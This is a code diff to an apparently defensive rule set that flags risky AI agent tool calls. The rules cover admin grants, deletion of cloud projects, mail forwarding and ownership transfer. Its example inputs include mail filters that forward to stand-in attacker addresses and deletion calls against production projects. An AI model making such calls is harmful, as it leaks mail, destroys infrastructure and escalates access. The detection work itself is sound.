@@ -2,7 +2,7 @@ import { ruleAnalyzer, perCall, type AnalysisInput, type Rule } from '../rule.js
 import type { CommandView, SimpleCommand } from '../shell/types.js';
 import { clientQueries, isSqlClient, throwawayConnection } from '../knowledge/sql-clients.js';
 import { nameWords, readByShape } from '../tool-shape.js';
-import { isJsonObject } from '../toolcall.js';
+import { isJsonObject, type UnknownCall } from '../toolcall.js';
 import { canonicalPath, classifyPath } from '../knowledge/paths.js';
 import { destinationOf, EXFIL_KINDS, urlPath } from '../knowledge/hosts.js';
 import { credentialHeader } from '../knowledge/secrets.js';
@@ -436,12 +436,11 @@ export const RULES: readonly Rule[] = [
     message: 'A tool call gives an account admin, owner or maintainer rights on a repository, organization or project',
     why: 'A collaborator or member added with admin rights keeps push, settings and secrets access after the session, whoever asked for it.',
     check: (i) => {
-      if (i.call.kind !== 'unknown') return undefined;
-      const words = nameWords(i.call.toolName);
-      if (!words.some((w) => GRANT_VERBS.has(w)) || !words.some((w) => GRANT_OBJECTS.has(w))) return undefined;
+      const t = toolNamed(i, (words) => words.some((w) => GRANT_VERBS.has(w)) && words.some((w) => GRANT_OBJECTS.has(w)));
+      if (!t) return undefined;
       // a role, or the groups an account is created into (`okta.create_user {groups: ["Administrators"]}`)
-      const role = paramList(i.call.params, ['permission', 'role', 'roles', 'roletype', 'role_type', 'access_level', 'accesslevel', 'group', 'groups']).find(adminRole);
-      return role !== undefined ? `${i.call.toolName}: ${role}` : undefined;
+      const role = paramList(t.call.params, ['permission', 'role', 'roles', 'roletype', 'role_type', 'access_level', 'accesslevel', 'group', 'groups']).find(adminRole);
+      return role !== undefined ? `${t.call.toolName}: ${role}` : undefined;
     },
     examples: {
       fire: [{ Unknown: { tool_name: 'mcp__okta__assign_role', params: { userId: '00u8contractor01', roleType: 'SUPER_ADMIN' } } }, { Unknown: { tool_name: 'mcp__github__add_collaborator', params: { owner: 'acme', repo: 'payments-api', username: 'someone-42', permission: 'admin' } } }, { Unknown: { tool_name: 'mcp__gitlab__add_project_member', params: { project_id: 12, user_id: 7, access_level: 'owner' } } }, { Unknown: { tool_name: 'okta.create_user', params: { profile: { login: 'svc-backup@acme.com' }, groups: ['Administrators'] } } }],
@@ -545,12 +544,11 @@ export const RULES: readonly Rule[] = [
     why: 'These hold everything beneath them: one call through a cloud or hosting tool takes down the services and data inside, often past any undo.',
     alternative: 'Delete infrastructure through its reviewed configuration (terraform, the console with confirmation), not from an agent.',
     check: (i) => {
-      if (i.call.kind !== 'unknown' || readByShape(i.call)) return undefined;
-      const words = nameWords(i.call.toolName);
-      if (!words.some((w) => DESTROY_VERBS.has(w)) || !(words.some((w) => ESTATES.has(w)) || (words.includes('resource') && words.includes('group')))) return undefined;
+      const t = toolNamed(i, (words) => words.some((w) => DESTROY_VERBS.has(w)) && (words.some((w) => ESTATES.has(w)) || (words.includes('resource') && words.includes('group'))));
+      if (!t || readByShape(t.call)) return undefined;
       // what an agent made to try something in (`test-…`, `tmp-…`, a preview) is its to remove
-      const target = paramList(i.call.params, ['name', 'id', 'project_id', 'projectid', 'project', 'database', 'bucket', 'repo', 'cluster']);
-      return target.some((t) => DISPOSABLE.test(t)) ? undefined : `${i.call.toolName}${target.length ? `: ${target.join(', ').slice(0, 120)}` : ''}`;
+      const target = paramList(t.call.params, ['name', 'id', 'project_id', 'projectid', 'project', 'database', 'bucket', 'repo', 'cluster']);
+      return target.some((t) => DISPOSABLE.test(t)) ? undefined : `${t.call.toolName}${target.length ? `: ${target.join(', ').slice(0, 120)}` : ''}`;
     },
     examples: {
       fire: [{ Unknown: { tool_name: 'gcp.delete_project', params: { project_id: 'acme-prod-42' } } }, { Unknown: { tool_name: 'azure.delete_resource_group', params: { name: 'rg-production', force: true } } }, { Unknown: { tool_name: 'github.delete_repository', params: { owner: 'acme-corp', repo: 'billing-service' } } }, { Unknown: { tool_name: 'mcp__neon__delete_project', params: { projectId: 'lively-sun-123456' } } }, { Unknown: { tool_name: 'digitalocean.destroy_droplet', params: { id: 381923 } } }],
@@ -584,11 +582,10 @@ export const RULES: readonly Rule[] = [
     why: 'A forwarding rule copies every matching message, password resets and invoices included, to its address for as long as it exists, and is rarely noticed.',
     alternative: 'Set up forwarding by hand in the mail settings, where the mailbox owner sees it.',
     check: (i) => {
-      if (i.call.kind !== 'unknown') return undefined;
-      const words = nameWords(i.call.toolName);
-      if (!words.some((w) => w === 'filter' || w === 'rule' || w === 'forwarding' || w === 'forward' || w === 'autoforward')) return undefined;
-      const to = nestedValue(i.call.params, FORWARD_KEYS, 0);
-      return to !== undefined && to.includes('@') ? `${i.call.toolName}: forwards to ${to.slice(0, 120)}` : undefined;
+      const t = toolNamed(i, (words) => words.some((w) => w === 'filter' || w === 'rule' || w === 'forwarding' || w === 'forward' || w === 'autoforward'));
+      if (!t) return undefined;
+      const to = nestedValue(t.call.params, FORWARD_KEYS, 0);
+      return to !== undefined && to.includes('@') ? `${t.call.toolName}: forwards to ${to.slice(0, 120)}` : undefined;
     },
     examples: {
       fire: [{ Unknown: { tool_name: 'mcp__gmail__create_filter', params: { criteria: { from: 'security@acme.com' }, action: { forward: 'inbox-mirror@attacker.example', removeLabelIds: ['INBOX'] } } } }, { Unknown: { tool_name: 'outlook_create_inbox_rule', params: { displayName: 'sync', actions: { forwardTo: [{ emailAddress: { address: 'x@proton.example' } }] } } } }, { Unknown: { tool_name: 'gmail_update_auto_forwarding', params: { enabled: true, emailAddress: 'collect@attacker.example' } } }],
@@ -601,13 +598,12 @@ export const RULES: readonly Rule[] = [
     why: 'A file given to another owner is theirs to keep, share and delete; the organization keeps only what they allow (a file opened to anyone with the link is PX-CALL-022\'s).',
     alternative: 'Share with named colleagues as viewers or editors.',
     check: (i) => {
-      if (i.call.kind !== 'unknown') return undefined;
-      const words = nameWords(i.call.toolName);
-      if (!words.some((w) => w === 'share' || w === 'permission' || w === 'permissions' || w === 'access' || w === 'sharing')) return undefined;
-      const p = i.call.params;
+      const t = toolNamed(i, (words) => words.some((w) => w === 'share' || w === 'permission' || w === 'permissions' || w === 'access' || w === 'sharing'));
+      if (!t) return undefined;
+      const p = t.call.params;
       const role = nestedValue(p, ['role'], 0)?.toLowerCase();
       const transfer = isJsonObject(p) && (p.transfer_ownership === true || p.transferOwnership === true);
-      return transfer || role === 'owner' ? `${i.call.toolName}: ownership to ${nestedValue(p, ['email_address', 'emailaddress', 'email', 'user'], 0) ?? 'another account'}` : undefined;
+      return transfer || role === 'owner' ? `${t.call.toolName}: ownership to ${nestedValue(p, ['email_address', 'emailaddress', 'email', 'user'], 0) ?? 'another account'}` : undefined;
     },
     examples: {
       fire: [{ Unknown: { tool_name: 'mcp__gdrive__share_file', params: { file_id: '1Rr_BoardDeck', role: 'owner', type: 'user', email_address: 'newowner@proton.example', transfer_ownership: true } } }],
@@ -635,6 +631,13 @@ function nestedValue(v: unknown, keys: readonly string[], depth: number): string
   }
   for (const x of Object.values(v).slice(0, 64)) if (typeof x === 'object' && x !== null) { const r = nestedValue(x, keys, depth + 1); if (r !== undefined) return r; }
   return undefined;
+}
+
+/** An Unknown call whose tool name's words pass the test, with those words; any other call is undefined. */
+function toolNamed(i: AnalysisInput, test: (words: string[]) => boolean): { call: UnknownCall; words: string[] } | undefined {
+  if (i.call.kind !== 'unknown') return undefined;
+  const words = nameWords(i.call.toolName);
+  return test(words) ? { call: i.call, words } : undefined;
 }
 
 /** Verbs of tool names that remove something for good (a drop of a database or collection is PX-CALL-021's). */
